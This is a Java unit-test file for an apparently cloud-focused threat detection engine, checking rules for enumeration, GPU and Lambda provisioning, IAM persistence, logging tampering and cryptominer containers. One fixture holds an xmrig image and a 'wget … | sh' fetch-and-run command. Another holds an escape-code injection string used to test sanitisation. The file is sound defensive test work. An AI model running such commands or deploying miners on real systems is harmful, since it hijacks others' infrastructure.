package io.trailsentry.detect.rules;

import static org.assertj.core.api.Assertions.assertThat;

import io.trailsentry.detect.RulePolicy;
import io.trailsentry.detect.Severity;
import io.trailsentry.detect.Signal;
import io.trailsentry.profile.BaselinePolicy;
import io.trailsentry.profile.Profile;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Positive and negative examples for every per-event detection, against a built-up baseline. */
class RulesTest {
    static final long DAY = 86_400_000L;
    static final long T0 = 1_773_100_800_000L; // 2026-03-10T00:00:00Z
    static final long ATTACK = T0 + 14 * 3_600_000L;

    RulePolicy.Builder policy;
    Rules rules;
    Profile profile;
    int seq;

    @BeforeEach
    void matureBaseline() {
        policy = new RulePolicy.Builder();
        rules = new Rules(policy.build(), BaselinePolicy.defaults());
        profile = new Profile();
        // two days of a reporting job from its usual server: athena and s3 in us-east-1
        for (long t = T0 - 2 * DAY; t < T0 + 12 * 3_600_000L; t += 600_000L) {
            observe(Events.event("athena", "GetQueryResults", t).readOnly());
            observe(Events.event("s3", "ListBuckets", t + 1_000).readOnly());
        }
    }

    List<Signal> observe(Events e) {
        List<Signal> out = new ArrayList<>();
        rules.observe(profile, e.id("e" + seq++).build(), out::add);
        return out;
    }

    static List<String> ids(List<Signal> signals) {
        return signals.stream().map(s -> s.detectionId).collect(Collectors.toList());
    }

    @Test
    void theFirstEventOfAPrincipalIsNewButOnlyInformational() {
        profile = new Profile();
        List<Signal> out = observe(Events.event("sts", "GetCallerIdentity", ATTACK).readOnly());
        assertThat(out)
                .singleElement()
                .satisfies(
                        s -> {
                            assertThat(s.detectionId).isEqualTo(NewPrincipal.DETECTION.id);
                            assertThat(s.routine).isTrue();
                            assertThat(s.counted()).isFalse();
                        });
    }

    @Test
    void aSourceFirstUsedTheEveningBeforeIsStillNewTheNextDayAndOwnAfterEnoughDays() {
        String thief = "203.0.113.77";
        long evening = T0 + 20 * 3_600_000L;
        assertThat(
                        ids(
                                observe(
                                        Events.event("sts", "GetCallerIdentity", evening)
                                                .readOnly()
                                                .from(thief, "Boto3/1.26.137 Python/3.9.16"))))
                .containsExactly(NewSource.DETECTION.id);
        for (int i = 1; i <= 4; i++) {
            observe(
                    Events.event("s3", "ListBuckets", evening + i * 60_000L)
                            .readOnly()
                            .from(thief, "Boto3/1.26.137 Python/3.9.16"));
        }
        // next day, same address: seen on one earlier day only, still new
        List<Signal> next =
                observe(
                        Events.event("ec2", "RunInstances", T0 + DAY + 9 * 3_600_000L)
                                .from(thief, "Boto3/1.26.137 Python/3.9.16"));
        assertThat(ids(next)).contains(NewSource.DETECTION.id);
        Signal s =
                next.stream()
                        .filter(x -> x.detectionId.equals(NewSource.DETECTION.id))
                        .findFirst()
                        .orElseThrow();
        assertThat(s.summary)
                .contains("203.0.113.0/24", "seen before on 1 earlier day", "198.51.100.0/24");
        // used on two earlier days, with events: the principal's own on the third
        for (int i = 0; i < 4; i++) {
            observe(
                    Events.event("s3", "ListBuckets", T0 + DAY + 9 * 3_600_000L + i * 60_000L)
                            .readOnly()
                            .from(thief, "Boto3/1.26.137 Python/3.9.16"));
        }
        assertThat(
                        ids(
                                observe(
                                        Events.event(
                                                        "s3",
                                                        "ListBuckets",
                                                        T0 + 2 * DAY + 9 * 3_600_000L)
                                                .readOnly()
                                                .from(thief, "Boto3/1.26.137 Python/3.9.16"))))
                .doesNotContain(NewSource.DETECTION.id);
    }

    @Test
    void sourcesLearntBeforeDaysWereCountedStayEstablished() {
        // a baseline restored from a release that did not count days: its sources are its own
        profile.sources.days = null;
        profile.sources.add("203.0.113.0/24", ATTACK - DAY, DAY, 16);
        assertThat(profile.sources.earlierDays("203.0.113.0/24", ATTACK / DAY))
                .isEqualTo(io.trailsentry.profile.DecayedCounts.UNCOUNTED);
        assertThat(
                        ids(
                                observe(
                                        Events.event("sts", "GetCallerIdentity", ATTACK)
                                                .readOnly()
                                                .from("203.0.113.9", "Boto3/1.26.137 Python"))))
                .doesNotContain(NewSource.DETECTION.id);
        // counting starts with the next sighting; the restored keys keep their standing
        assertThat(profile.sources.days).isNotNull();
        assertThat(profile.sources.earlierDays("203.0.113.0/24", ATTACK / DAY + 1))
                .isEqualTo(io.trailsentry.profile.DecayedCounts.UNCOUNTED);
    }

    @Test
    void lambdaAtMaximumMemoryAndConcurrencyIsComputeAtScale() {
        List<Signal> out = new ArrayList<>();
        for (int i = 0; i < 2; i++) {
            String fn = "image-resize-" + i;
            out.addAll(
                    observe(
                            Events.event("lambda", "CreateFunction20150331", ATTACK + i * 20_000L)
                                    .json(
                                            "{'functionName':'"
                                                    + fn
                                                    + "','runtime':'python3.12','memorySize':10240,"
                                                    + "'timeout':900}",
                                            "{'functionName':'" + fn + "','memorySize':10240}")));
            out.addAll(
                    observe(
                            Events.event(
                                            "lambda",
                                            "PutFunctionConcurrency20171031",
                                            ATTACK + i * 20_000L + 5_000)
                                    .json(
                                            "{'functionName':'"
                                                    + fn
                                                    + "','reservedConcurrentExecutions':40}",
                                            "{'reservedConcurrentExecutions':40}")));
        }
        // 6 vCPUs a function, 40 executions of 6 each: 492 vCPU-equivalents
        assertThat(ids(out)).contains(LargeScaleCompute.DETECTION.id);
        Signal s =
                out.stream()
                        .filter(x -> x.detectionId.equals(LargeScaleCompute.DETECTION.id))
                        .findFirst()
                        .orElseThrow();
        assertThat(s.summary).contains("PutFunctionConcurrency20171031", "40 executions");
        assertThat(s.severity).isEqualTo(Severity.HIGH.id);
    }

    @Test
    void aFewSmallFunctionsAreNotComputeAtScale() {
        List<Signal> out = new ArrayList<>();
        for (int mb : new int[] {256, 512, 1024}) {
            out.addAll(
                    observe(
                            Events.event("lambda", "CreateFunction20150331", ATTACK + mb * 10L)
                                    .json(
                                            "{'functionName':'orders-"
                                                    + mb
                                                    + "','memorySize':"
                                                    + mb
                                                    + "}",
                                            null)));
        }
        out.addAll(
                observe(
                        Events.event("lambda", "PutFunctionConcurrency20171031", ATTACK + 60_000)
                                .json(
                                        "{'functionName':'orders-1024',"
                                                + "'reservedConcurrentExecutions':100}",
                                        null)));
        // 3 + 100 x 1 vCPU: under largeScaleVcpus
        assertThat(ids(out)).doesNotContain(LargeScaleCompute.DETECTION.id);
        assertThat(ComputeEstimate.lambdaVcpus(10_240)).isEqualTo(6);
        assertThat(ComputeEstimate.lambdaVcpus(128)).isEqualTo(1);
    }

    @Test
    void lambdaCallsAreKnownWhateverTheirApiVersion() {
        assertThat(
                        ComputeEstimate.lambdaApi(
                                Events.event("lambda", "UpdateFunctionConfiguration20150331v2", 1)
                                        .build()))
                .isEqualTo("UpdateFunctionConfiguration");
        assertThat(
                        ComputeEstimate.lambdaApi(
                                Events.event("lambda", "PutProvisionedConcurrencyConfig", 1)
                                        .build()))
                .isEqualTo("PutProvisionedConcurrencyConfig");
        assertThat(
                        ComputeEstimate.lambdaApi(
                                Events.event("lambda", "CreateFunction20150331", 1).build()))
                .isEqualTo("CreateFunction");
        assertThat(ComputeEstimate.lambdaApi(Events.event("ec2", "RunInstances", 1).build()))
                .isNull();
        // a configuration change that does not size the function requests no compute
        assertThat(
                        ComputeEstimate.lambdaCompute(
                                Events.event("lambda", "UpdateFunctionConfiguration20150331v2", 1)
                                        .json("{'functionName':'f','layers':['arn:x']}", null)
                                        .build()))
                .isFalse();
        assertThat(
                        ComputeEstimate.of(
                                        Events.event("lambda", "PutProvisionedConcurrencyConfig", 1)
                                                .json(
                                                        "{'functionName':'f','qualifier':'1',"
                                                                + "'provisionedConcurrentExecutions':50}",
                                                        null)
                                                .build(),
                                        10_240)
                                .vcpus)
                .isEqualTo(300);
    }

    @Test
    void aNewSourceIsReportedOnceAnHourForMatureBaselines() {
        assertThat(ids(observe(Events.event("athena", "GetQueryResults", ATTACK).readOnly())))
                .isEmpty();
        List<Signal> out =
                observe(
                        Events.event("sts", "GetCallerIdentity", ATTACK)
                                .readOnly()
                                .from("203.0.113.77", "Boto3/1.28"));
        assertThat(ids(out)).containsExactly(NewSource.DETECTION.id);
        assertThat(out.get(0).summary).contains("203.0.113.0/24", "usual: 198.51.100.0/24");
        assertThat(
                        ids(
                                observe(
                                        Events.event("iam", "ListUsers", ATTACK + 1_000)
                                                .readOnly()
                                                .from("203.0.113.77", "Boto3/1.28"))))
                .isEmpty();
    }

    @Test
    void immatureBaselinesReportNoNovelty() {
        profile = new Profile();
        observe(Events.event("athena", "GetQueryResults", ATTACK));
        assertThat(
                        ids(
                                observe(
                                        Events.event("sts", "GetCallerIdentity", ATTACK + 1_000)
                                                .readOnly()
                                                .from("203.0.113.77", "x/1"))))
                .isEmpty();
    }

    @Test
    void aNewLongLivedKeyIsReportedButSessionKeysAreNot() {
        assertThat(
                        ids(
                                observe(
                                        Events.event("athena", "GetQueryResults", ATTACK)
                                                .key("AKIANEWKEY"))))
                .containsExactly(NewAccessKey.DETECTION.id);
        assertThat(
                        ids(
                                observe(
                                        Events.event("athena", "GetQueryResults", ATTACK)
                                                .key("ASIATEMPORARY"))))
                .isEmpty();
    }

    @Test
    void enumerationNeedsManyDistinctReadsAcrossServicesInMinutes() {
        String[][] calls = {
            {"iam", "ListUsers"},
            {"iam", "ListRoles"},
            {"iam", "ListAccessKeys"},
            {"ec2", "DescribeRegions"},
            {"ec2", "DescribeInstances"},
            {"ec2", "DescribeVpcs"},
            {"ecs", "ListClusters"},
            {"lambda", "ListFunctions"},
            {"s3", "GetBucketPolicy"},
            {"sagemaker", "ListNotebookInstances"},
            {"iam", "ListPolicies"}
        };
        List<String> fired = new ArrayList<>();
        for (int i = 0; i < calls.length; i++) {
            fired.addAll(
                    ids(
                            observe(
                                    Events.event(calls[i][0], calls[i][1], ATTACK + i * 5_000L)
                                            .readOnly())));
        }
        assertThat(fired).containsExactly(EnumerationBurst.DETECTION.id);
    }

    @Test
    void enumerationByAnImmaturePrincipalIsEvidenceNotCounted() {
        profile = new Profile();
        observe(Events.event("sts", "GetCallerIdentity", ATTACK).readOnly());
        String[][] calls = {
            {"iam", "ListUsers"},
            {"iam", "ListRoles"},
            {"iam", "ListAccessKeys"},
            {"ec2", "DescribeRegions"},
            {"ec2", "DescribeInstances"},
            {"ec2", "DescribeVpcs"},
            {"ecs", "ListClusters"},
            {"lambda", "ListFunctions"},
            {"s3", "GetBucketPolicy"},
            {"sagemaker", "ListNotebookInstances"}
        };
        List<Signal> out = new ArrayList<>();
        for (int i = 0; i < calls.length; i++) {
            out.addAll(
                    observe(
                            Events.event(calls[i][0], calls[i][1], ATTACK + (i + 1) * 5_000L)
                                    .readOnly()));
        }
        assertThat(out)
                .singleElement()
                .satisfies(
                        s -> {
                            assertThat(s.detectionId).isEqualTo(EnumerationBurst.DETECTION.id);
                            assertThat(s.counted()).isFalse();
                        });
    }

    @Test
    void slowReadsAreNotEnumeration() {
        String[] apis = {
            "ListUsers",
            "ListRoles",
            "DescribeRegions",
            "DescribeVpcs",
            "ListClusters",
            "ListFunctions",
            "GetBucketPolicy",
            "ListNotebookInstances",
            "ListPolicies",
            "DescribeInstances",
            "ListAccessKeys"
        };
        String[] services = {
            "iam", "iam", "ec2", "ec2", "ecs", "lambda", "s3", "sagemaker", "iam", "ec2", "iam"
        };
        for (int i = 0; i < apis.length; i++) {
            assertThat(
                            ids(
                                    observe(
                                            Events.event(
                                                            services[i],
                                                            apis[i],
                                                            ATTACK + i * 120_000L)
                                                    .readOnly())))
                    .isEmpty();
        }
    }

    @Test
    void gpuQuotaReadsAreReconnaissanceOtherQuotasAreNot() {
        assertThat(
                        ids(
                                observe(
                                        Events.event("servicequotas", "GetServiceQuota", ATTACK)
                                                .readOnly()
                                                .quota("L-DB2E81BA"))))
                .containsExactly(QuotaRecon.DETECTION.id);
        assertThat(
                        ids(
                                observe(
                                        Events.event("servicequotas", "GetServiceQuota", ATTACK)
                                                .readOnly()
                                                .quota("L-0263D0A3"))))
                .isEmpty();
    }

    @Test
    void dryRunProbesAreRoutineForPrincipalsThatProbeEveryDay() {
        List<Signal> first =
                observe(
                        Events.event("ec2", "RunInstances", ATTACK)
                                .error("Client.DryRunOperation")
                                .types("p3.2xlarge"));
        assertThat(first)
                .singleElement()
                .satisfies(
                        s -> {
                            assertThat(s.detectionId).isEqualTo(DryRunProbe.DETECTION.id);
                            assertThat(s.routine).isFalse();
                        });
        List<Signal> nextDay =
                observe(
                        Events.event("ec2", "RunInstances", ATTACK + DAY)
                                .error("Client.DryRunOperation")
                                .types("p3.2xlarge"));
        assertThat(nextDay).singleElement().satisfies(s -> assertThat(s.routine).isTrue());
    }

    @Test
    void accessDeniedBurstsNeedTenDenialsInFiveMinutes() {
        List<String> fired = new ArrayList<>();
        for (int i = 0; i < 9; i++) {
            fired.addAll(
                    ids(
                            observe(
                                    Events.event("s3", "ListObjects", ATTACK + i * 20_000L)
                                            .error("AccessDenied"))));
        }
        assertThat(fired).isEmpty();
        fired.addAll(
                ids(
                        observe(
                                Events.event("s3", "ListObjects", ATTACK + 200_000L)
                                        .error("AccessDenied"))));
        assertThat(fired).containsExactly(AccessDeniedBurst.DETECTION.id);
    }

    @Test
    void gpuAndLargeRequestsAreProvisioningSignals() {
        List<Signal> gpu =
                observe(
                        Events.event("ec2", "RunInstances", ATTACK)
                                .types("g4dn.12xlarge")
                                .count(10)
                                .instances("i-1", "i-2"));
        assertThat(ids(gpu))
                .contains(
                        GpuCompute.DETECTION.id,
                        LargeCount.DETECTION.id,
                        CreatedResources.DETECTION.id);
        assertThat(gpu.get(0).severity).isEqualTo(Severity.MEDIUM.id);
        assertThat(
                        ids(
                                observe(
                                        Events.event("ec2", "RunInstances", ATTACK)
                                                .types("m5.large")
                                                .count(2)
                                                .instances("i-3"))))
                .containsExactly(CreatedResources.DETECTION.id);
        assertThat(
                        ids(
                                observe(
                                        Events.event("ec2", "RunInstances", ATTACK)
                                                .types("p3.2xlarge")
                                                .error("Client.InstanceLimitExceeded"))))
                .isEmpty();
    }

    @Test
    void largeAutoScalingGroupsAreMediumOnlyWithSuspiciousContext() {
        List<Signal> plain =
                observe(
                        Events.event("autoscaling", "CreateAutoScalingGroup", ATTACK)
                                .asg("web", 20, 20, 40)
                                .types("m5.large"));
        Signal asg =
                plain.stream()
                        .filter(s -> s.detectionId.equals(LargeAutoScalingGroup.DETECTION.id))
                        .findFirst()
                        .orElseThrow();
        assertThat(asg.severity).isEqualTo(Severity.LOW.id);
        assertThat(asg.resources).containsExactly("web");
        List<Signal> farGpu =
                observe(
                        Events.event("autoscaling", "CreateAutoScalingGroup", ATTACK)
                                .asg("x", 20, 20, 999)
                                .types("p3.16xlarge")
                                .region("sa-east-1"));
        assertThat(ids(farGpu))
                .contains(
                        GpuCompute.DETECTION.id,
                        LargeAutoScalingGroup.DETECTION.id,
                        NewRegionCompute.DETECTION.id);
        assertThat(
                        farGpu.stream()
                                .filter(
                                        s ->
                                                s.detectionId.equals(
                                                        LargeAutoScalingGroup.DETECTION.id))
                                .findFirst()
                                .orElseThrow()
                                .severity)
                .isEqualTo(Severity.MEDIUM.id);
        assertThat(
                        ids(
                                observe(
                                        Events.event(
                                                        "autoscaling",
                                                        "CreateAutoScalingGroup",
                                                        ATTACK)
                                                .asg("small", 1, 2, 19))))
                .doesNotContain(LargeAutoScalingGroup.DETECTION.id);
    }

    @Test
    void provisioningRoutineForThePrincipalIsNotCounted() {
        observe(
                Events.event("autoscaling", "CreateAutoScalingGroup", ATTACK)
                        .asg("web", 20, 20, 40)
                        .types("m5.large"));
        List<Signal> tomorrow =
                observe(
                        Events.event("autoscaling", "CreateAutoScalingGroup", ATTACK + DAY)
                                .asg("web2", 20, 20, 40)
                                .types("m5.large"));
        assertThat(tomorrow)
                .filteredOn(s -> s.detectionId.equals(LargeAutoScalingGroup.DETECTION.id))
                .singleElement()
                .satisfies(s -> assertThat(s.counted()).isFalse());
    }

    @Test
    void expectedRegionsFromPolicyOverrideTheBaseline() {
        policy.expectedRegions = new String[] {"eu-west-1"};
        rules = new Rules(policy.build(), BaselinePolicy.defaults());
        assertThat(
                        ids(
                                observe(
                                        Events.event("ec2", "RunInstances", ATTACK)
                                                .types("m5.large")
                                                .region("us-east-1"))))
                .contains(NewRegionCompute.DETECTION.id);
        assertThat(
                        ids(
                                observe(
                                        Events.event("ec2", "RunInstances", ATTACK)
                                                .types("m5.large")
                                                .region("eu-west-1"))))
                .doesNotContain(NewRegionCompute.DETECTION.id);
    }

    @Test
    void containerChecksReadTheTaskDefinition() {
        List<Signal> miner =
                observe(
                        Events.event("ecs", "RegisterTaskDefinition", ATTACK)
                                .task(
                                        "docker.io/x/xmrig:latest",
                                        "sh -c wget -qO- http://h/i.sh | sh"));
        assertThat(ids(miner))
                .contains(
                        MinerMarkers.DETECTION.id,
                        ShellBootstrap.DETECTION.id,
                        UnapprovedImage.DETECTION.id,
                        CreatedResources.DETECTION.id);
        assertThat(miner.get(0).severity).isEqualTo(Severity.HIGH.id);
        assertThat(
                        ids(
                                observe(
                                        Events.event("ecs", "RegisterTaskDefinition", ATTACK)
                                                .task(
                                                        Events.ACCOUNT
                                                                + ".dkr.ecr.us-east-1.amazonaws.com/web:1",
                                                        null))))
                .containsExactly(CreatedResources.DETECTION.id);
        policy.approvedRegistries = new String[] {"public.ecr.aws/acme/"};
        rules = new Rules(policy.build(), BaselinePolicy.defaults());
        assertThat(
                        ids(
                                observe(
                                        Events.event("ecs", "RegisterTaskDefinition", ATTACK)
                                                .task(
                                                        "public.ecr.aws/acme/agent:2",
                                                        "sh -c echo ok"))))
                .containsExactly(CreatedResources.DETECTION.id);
    }

    @Test
    void frictionAndPersistence() {
        assertThat(
                        ids(
                                observe(
                                        Events.event("ec2", "ModifyInstanceAttribute", ATTACK)
                                                .protect(true)
                                                .instances("i-9"))))
                .containsExactly(TerminationProtection.DETECTION.id);
        assertThat(
                        ids(
                                observe(
                                        Events.event("ec2", "ModifyInstanceAttribute", ATTACK)
                                                .protect(false)
                                                .instances("i-9"))))
                .isEmpty();
        assertThat(
                        ids(
                                observe(
                                        Events.event("autoscaling", "SetInstanceProtection", ATTACK)
                                                .scaleIn("asg-1"))))
                .containsExactly(ScaleInProtection.DETECTION.id);
        assertThat(
                        observe(
                                Events.event("iam", "AttachRolePolicy", ATTACK)
                                        .role("r", "arn:aws:iam::aws:policy/AdministratorAccess")))
                .singleElement()
                .satisfies(s -> assertThat(s.severity).isEqualTo(Severity.HIGH.id));
        assertThat(
                        observe(
                                Events.event("iam", "AttachRolePolicy", ATTACK)
                                        .role("r", "arn:aws:iam::aws:policy/ReadOnlyAccess")))
                .singleElement()
                .satisfies(s -> assertThat(s.severity).isEqualTo(Severity.LOW.id));
        assertThat(
                        ids(
                                observe(
                                        Events.event("iam", "CreateAccessKey", ATTACK)
                                                .newKey("u", "AKIACREATED"))))
                .containsExactly(
                        IamUserPersistence.DETECTION.id,
                        IdentityHandOff.DETECTION.id, // a key for user u: u is linked
                        CreatedResources.DETECTION.id);
        assertThat(
                        ids(
                                observe(
                                        Events.event("lambda", "CreateFunctionUrlConfig", ATTACK)
                                                .url("f", "NONE"))))
                .containsExactly(PublicFunction.DETECTION.id);
        assertThat(
                        ids(
                                observe(
                                        Events.event("lambda", "CreateFunctionUrlConfig", ATTACK)
                                                .url("f", "AWS_IAM"))))
                .isEmpty();
        assertThat(observe(Events.event("cloudtrail", "StopLogging", ATTACK)))
                .singleElement()
                .satisfies(s -> assertThat(s.severity).isEqualTo(Severity.HIGH.id));
        assertThat(
                        ids(
                                observe(
                                        Events.event("cloudtrail", "StopLogging", ATTACK)
                                                .error("AccessDenied"))))
                .isEmpty();
    }

    @Test
    void createdResourcesAreRoutineObservationsWithTypedTargets() {
        List<Signal> out = observe(Events.event("ecs", "CreateCluster", ATTACK).cluster("c1"));
        assertThat(out)
                .singleElement()
                .satisfies(
                        s -> {
                            assertThat(s.detectionId).isEqualTo(CreatedResources.DETECTION.id);
                            assertThat(s.resourceType).isEqualTo("ecs-cluster");
                            assertThat(s.resources).containsExactly("c1");
                            assertThat(s.counted()).isFalse();
                        });
    }

    @Test
    void attackerControlledNamesAreSanitisedAndBounded() {
        String hostile = "web\u001b[31m\nFAKE FINDING\r\u0000" + "x".repeat(10_000);
        List<Signal> out =
                observe(
                        Events.event("autoscaling", "CreateAutoScalingGroup", ATTACK)
                                .asg(hostile, 20, 20, 40));
        Signal asg =
                out.stream()
                        .filter(s -> s.detectionId.equals(LargeAutoScalingGroup.DETECTION.id))
                        .findFirst()
                        .orElseThrow();
        assertThat(asg.summary.length()).isLessThanOrEqualTo(Signal.MAX_SUMMARY);
        assertThat(asg.summary)
                .doesNotContain("\u001b", "\n", "\r", "\u0000")
                .contains("web?[31m?FAKE FINDING??");
    }

    @Test
    void theBaselineStaysBoundedHoweverMuchItSees() {
        for (int i = 0; i < 5_000; i++) {
            observe(
                    Events.event("svc" + (i % 300), "Api" + i, ATTACK + i * 1_000L)
                            .readOnly()
                            .from("10." + (i % 200) + ".0.1", "tool" + i + "/1")
                            .region("r-" + (i % 50)));
        }
        assertThat(profile.apis.size()).isLessThanOrEqualTo(64);
        assertThat(profile.services.size()).isLessThanOrEqualTo(32);
        assertThat(profile.sources.size()).isLessThanOrEqualTo(16);
        assertThat(profile.userAgents.size()).isLessThanOrEqualTo(8);
        assertThat(profile.regions.size()).isLessThanOrEqualTo(16);
        assertThat(profile.reads.times.length).isLessThanOrEqualTo(32);
    }

    @Test
    void policySimulationIsPermissionValidationUnlessTheBaselineDoesItDaily() {
        assertThat(
                        ids(
                                observe(
                                        Events.event("iam", "SimulatePrincipalPolicy", ATTACK)
                                                .error("AccessDenied"))))
                .contains(PolicySimulation.DETECTION.id);
        assertThat(ids(observe(Events.event("iam", "GetUser", ATTACK + 1_000).readOnly())))
                .doesNotContain(PolicySimulation.DETECTION.id);
        // a policy tool that simulates every day: routine, not counted
        profile = new Profile();
        List<Signal> last = null;
        for (int d = 0; d < 4; d++) {
            last = observe(Events.event("iam", "SimulateCustomPolicy", T0 - (3 - d) * DAY));
        }
        assertThat(last)
                .filteredOn(sig -> sig.detectionId.equals(PolicySimulation.DETECTION.id))
                .singleElement()
                .satisfies(sig -> assertThat(sig.counted()).isFalse());
    }

    @Test
    void tamperingWithATrailThePrincipalJustCreatedIsALabNotAnEstablishedTrail() {
        assertThat(
                        observe(
                                Events.event("cloudtrail", "CreateTrail", ATTACK)
                                        .json(
                                                "{\"name\": \"lab-trail\", \"s3BucketName\": \"lab-bucket\"}",
                                                "{}")))
                .isEmpty();
        assertThat(
                        observe(
                                Events.event("cloudtrail", "StopLogging", ATTACK + 60_000)
                                        .json(
                                                "{\"name\": \"arn:aws:cloudtrail:us-east-1:111122223333:trail/lab-trail\"}",
                                                "null")))
                .singleElement()
                .satisfies(
                        s -> {
                            assertThat(s.detectionId).isEqualTo(LoggingTampering.DETECTION.id);
                            assertThat(s.severity).isEqualTo(Severity.MEDIUM.id);
                        });
        assertThat(
                        observe(
                                Events.event("cloudtrail", "StopLogging", ATTACK + 120_000)
                                        .json("{\"name\": \"org-trail\"}", "null")))
                .singleElement()
                .satisfies(s -> assertThat(s.severity).isEqualTo(Severity.HIGH.id));
    }
}
